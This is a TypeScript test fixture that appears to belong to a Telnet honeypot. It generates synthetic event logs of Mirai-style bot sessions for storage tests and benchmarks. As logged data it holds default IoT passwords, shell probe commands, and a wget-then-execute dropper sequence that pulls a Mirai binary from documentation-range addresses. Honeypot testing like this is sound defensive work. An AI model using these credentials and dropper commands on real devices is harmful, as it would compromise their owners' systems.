// Realistic events of scripted Telnet bot sessions (connect, login, probes, dropper, exec, close),
// for sink and store tests and for bench/store.ts. Deterministic: ids and times come from a counter.
import { createHash } from 'node:crypto';
import { SCHEMA_VERSION } from '../core/events.ts';
import type { EventPayloads, HachiEvent, SessionEventType, SessionFields } from '../core/events.ts';
import { createIdGenerator } from '../core/ids.ts';

export interface EventFactory {
  /** One session-bound event with the given payload. */
  event<K extends SessionEventType>(type: K, data: EventPayloads[K], session?: SessionFields): HachiEvent;
  /** A whole Mirai-style session: about 20 events. */
  botSession(index: number): HachiEvent[];
  /** Fields of a fresh session (new session id, source address from `index`). */
  session(index: number, persona?: string): SessionFields;
}

const probes = [
  'enable', 'system', 'shell', 'sh', '/bin/busybox HACHI', 'cat /proc/cpuinfo', 'cat /proc/mounts',
  'cd /tmp || cd /var/run || cd /mnt', 'echo -e "\\x7f\\x45\\x4c\\x46" > .d', 'chmod 777 .d', './.d telnet.arm7',
];

/** `startTs` is the first event's time; each event advances the clock by 1 ms. */
export function createEventFactory(startTs = 1_700_000_000_000, sensor = 'test-sensor'): EventFactory {
  let now = startTs;
  let counter = 0;
  const nextId = createIdGenerator({
    now: () => now,
    randomBytes: (n) => {
      counter += 1;
      const bytes = new Uint8Array(n);
      new DataView(bytes.buffer).setUint32(n - 4, counter);
      return bytes;
    },
  });
  const session = (index: number, persona = 'hi3518-camera'): SessionFields => ({
    session: nextId(),
    protocol: 'telnet',
    mode: 'emulated',
    persona,
    src: { ip: `198.51.${(index >> 8) & 255}.${index & 255}`, port: 40_000 + (index % 20_000) },
    dst: { ip: '192.0.2.10', port: 2323 },
  });
  const event = <K extends SessionEventType>(type: K, data: EventPayloads[K], fields: SessionFields = session(0)): HachiEvent => {
    now += 1;
    return { id: nextId(), type, ts: now, schema: SCHEMA_VERSION, sensor, ...fields, data } as HachiEvent;
  };
  const botSession = (index: number): HachiEvent[] => {
    const s = session(index, index % 3 === 0 ? 'tplink-router' : 'hi3518-camera');
    const dropped = new TextEncoder().encode(`\x7fELF payload ${index % 50}`);
    const sha256 = createHash('sha256').update(dropped).digest('hex');
    const out: HachiEvent[] = [
      event('session.connect', {}, s),
      event('telnet.negotiation', { terminalType: 'vt100', width: 80, height: 24, options: ['NAWS', 'TTYPE'] }, s),
      event('auth.attempt', { method: 'password', username: 'root', password: 'xc3511', success: false, attempt: 1 }, s),
      event('auth.attempt', { method: 'password', username: 'root', password: 'vizxv', success: true, attempt: 2 }, s),
    ];
    for (const line of probes) out.push(event('command.input', { line }, s));
    out.push(event('command.unknown', { command: 'HACHI', line: '/bin/busybox HACHI' }, s));
    out.push(event('download.attempt', { tool: 'wget', url: `http://203.0.113.${index % 250}/bins/mirai.arm7`, outputPath: '/tmp/.d', line: 'wget http://x/bins/mirai.arm7 -O .d' }, s));
    out.push(event('file.write', { path: '/tmp/.d', sha256, size: dropped.length, reason: 'exec' }, s));
    out.push(event('exec.attempt', { path: '/tmp/.d', argv: ['./.d', 'telnet.arm7'], sha256, size: dropped.length }, s));
    out.push(event('session.close', { reason: 'exit', durationMs: 1234, bytesIn: 900, bytesOut: 4000 }, s));
    return out;
  };
  return { event, botSession, session };
}
